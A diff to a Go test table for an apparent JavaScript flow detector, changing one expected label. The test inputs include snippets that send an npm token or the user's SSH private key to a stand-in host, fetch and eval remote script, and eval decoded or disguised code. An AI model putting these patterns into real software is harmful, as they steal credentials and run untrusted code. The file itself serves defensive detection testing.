@@ -10,7 +10,7 @@ func TestJavaScriptFlows(t *testing.T) {
 		`import {request as q} from "node:https"; q("https://a.example/?t=" + process.env.NPM_TOKEN)`:                                    "environment, credentials -> network",
 		`const fs=require('fs'),p=require('path'),os=require('os');
 		 const k=fs.readFileSync(p.join(os.homedir(),'.ssh','id_rsa'),'utf8'); fetch('https://a.example',{method:'POST',body:k})`: "reads files, reads where credentials are -> network",
-		`eval(Buffer.from('Y29uc29sZS5sb2coJ2hlbGxvJykgLy8gaGVsbG8=','base64').toString())`: "decodes -> runs text as code",
+		`eval(Buffer.from('Y29uc29sZS5sb2coJ2hlbGxvJykgLy8gaGVsbG8=','base64').toString())`: "decodes, decodes text of its own -> runs text as code",
 		`const e = globalThis['ev'+'al']; e(atob(x))`:                                       "decodes -> runs text as code; mark hidden name",
 		`https.get('x')`: "",
 		`const h=require('https'); let body=''; h.get('https://a.example/x.js', res => { res.on('data', c => body += c); res.on('end', () => eval(body)) })`: "network -> runs text as code",
